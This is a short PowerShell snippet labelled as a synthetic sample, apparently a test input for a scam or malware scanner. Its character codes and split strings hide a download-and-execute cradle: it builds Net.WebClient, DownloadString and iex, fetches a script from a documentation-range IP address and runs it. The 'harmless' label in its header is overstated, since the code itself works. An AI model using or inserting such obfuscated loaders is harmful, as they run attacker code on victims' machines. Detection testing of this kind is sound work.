# scamscan synthetic sample - harmless text, not malware
$n = (78, 101, 116, 46, 87, 101, 98, 67, 108, 105, 101, 110, 116 | % { [char]$_ }) -join ''
$m = (68,111,119,110,108,111,97,100,83,116,114,105,110,103 | % { [char]$_ }) -join ''
$u = 'http'+'://2'+'03.0'+'.113'+'.60/'+'s.ps'+'1'
$x = ([char]105+[char]101+[char]120)
& $x ((New-Object $n).$m($u))
